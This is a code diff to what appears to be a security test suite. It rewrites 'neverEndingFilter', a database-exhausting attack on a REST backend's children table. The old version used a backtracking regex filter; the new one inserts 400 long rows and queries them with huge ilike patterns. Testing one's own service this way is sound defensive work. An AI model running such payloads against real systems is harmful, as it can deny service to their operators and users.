@@ -7,13 +7,15 @@ export type Attack = (target: Target, person: Person) => Promise<unknown>;
 const text = (path: string, init: RequestInit) => (origin: string) =>
   fetch(origin + path, init).then((response) => response.text());
 
-/** A filter that keeps the database busy until somebody ends it: a child's notes are 1,999 letters. */
+/** A filter that keeps the database busy until somebody ends it: each child's notes are 1,999 letters. */
 const neverEndingFilter: Attack = async ({ backend }, person) => {
-  const headers = { ...person.headers, prefer: 'return=representation' };
+  const headers = { ...person.headers, prefer: 'return=minimal' };
   const child = { first_name: 'Trap', birth_month: 1, birth_year: 2020, notes: 'a'.repeat(1999) };
-  const filter = encodeURIComponent('^(a+)(a+)(a+)\\1\\1\\2\\2\\3\\3$');
-  await fetch(`${backend}/rest/v1/children`, { method: 'POST', headers, body: JSON.stringify(child) });
-  await fetch(`${backend}/rest/v1/children?notes=match.${filter}`, { headers });
+  const body = JSON.stringify(Array(400).fill(child));
+  const patterns = [...'bcdefghi'].map((end) => `notes.ilike.%${'a_'.repeat(400)}${end}%`);
+  const filter = encodeURIComponent(`(${patterns})`);
+  await fetch(`${backend}/rest/v1/children`, { method: 'POST', headers, body });
+  await fetch(`${backend}/rest/v1/children?or=${filter}`, { headers });
   await fetch(`${backend}/rest/v1/children?first_name=eq.Trap`, { method: 'DELETE', headers });
 };
 
